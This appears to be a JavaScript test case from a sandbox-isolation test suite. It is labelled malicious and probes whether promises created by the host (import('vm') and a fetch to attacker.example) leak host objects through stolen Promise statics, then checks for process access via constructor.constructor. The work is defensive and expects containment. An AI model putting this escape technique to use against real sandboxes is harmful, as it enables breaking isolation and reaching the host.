/*---
id: re-static-steal-03-host-promises
description: "Feeds host-made promises (import(), fetch) and an iterator that calls the injected API into stolen statics, so host rejections and host-thrown iterator errors reach the fake."
kind: malicious
category: realm-escape
technique: RE-static-steal
variant: combined
references:
  - "vm2 ATTACKS cat. 7"
expect:
  ultra-secure: { outcome: contained, value: "held" }
  high-security: { outcome: contained, value: "held" }
  tenant-isolated: { outcome: contained, value: "held" }
flags: [async]
---*/
const got = [];
function Fake(ex) { ex((v) => got.push(v), (e) => got.push(e)); }
Fake.resolve = (v) => Promise.resolve(v);
Fake.any = Promise.any; Fake.race = Promise.race;
const hostish = [import('vm')];
if (typeof fetch === 'function') hostish.push(fetch('https://attacker.example/'));
Fake.any(hostish);
Fake.race({ [Symbol.iterator]: () => ({ next() { if (typeof require === 'function') require('vm'); return { done: true }; } }) });
await Promise.allSettled(hostish);
await null;
const all = got.flatMap((v) => (v instanceof AggregateError ? [v, ...v.errors] : [v]));
for (const v of all) {
  if (v === null || typeof v !== 'object') continue;
  try { if (v.constructor.constructor('return typeof process')() !== 'undefined') return 'ESCAPED'; } catch (e) {}
}
return 'held';
